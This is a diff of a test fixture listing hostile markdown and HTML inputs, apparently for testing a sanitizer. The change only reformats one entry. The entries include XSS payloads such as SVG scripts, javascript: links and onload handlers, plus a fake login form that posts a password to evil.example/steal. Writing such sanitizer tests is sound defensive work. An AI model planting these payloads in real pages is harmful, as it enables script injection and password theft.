@@ -48,7 +48,8 @@ export const HOSTILE_MARKDOWN = [
   '<svg><script>alert("svg script")</script></svg>',
   '<svg onload="alert(\'svg onload\')"><a href="javascript:alert(\'svg link\')"><text>svg link</text></a></svg>',
   '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
-  '<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button formaction="javascript:alert(\'formaction\')">Sign in</button></form>',
+  '<form action="https://evil.example/steal" method="post"><input name="password" type="password">' +
+    '<button formaction="javascript:alert(\'formaction\')">Sign in</button></form>',
   '<object data="https://evil.example/object"></object>',
   '<embed src="https://evil.example/embed">',
   '<link rel="stylesheet" href="https://evil.example/sheet.css">',
